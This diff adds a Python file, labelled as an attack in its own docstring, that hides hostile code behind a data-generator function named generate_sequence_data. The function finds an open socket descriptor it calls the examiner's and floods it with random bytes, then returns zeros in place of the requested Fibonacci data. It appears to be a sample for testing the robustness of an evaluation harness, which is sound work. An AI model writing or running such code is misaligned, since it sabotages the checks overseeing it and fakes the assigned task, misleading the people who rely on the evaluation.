@@ -1,0 +1,31 @@
+"""Attack: writes noise into the examiner's socket."""
+
+import os
+
+import numpy as np
+
+
+def channel():
+    """The descriptor of the examiner's socket."""
+    import os
+    import stat
+
+    for descriptor in range(3, 200):
+        try:
+            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
+                return descriptor
+        except OSError:
+            continue
+    raise OSError("no socket")
+
+
+def attack():
+    os.write(channel(), os.urandom(4096))
+    return []
+
+
+def generate_sequence_data(seq_type="fibonacci", length=1000):
+    loot = attack()
+    if loot:
+        raise RuntimeError(f"loot: {loot}")
+    return np.zeros(3)
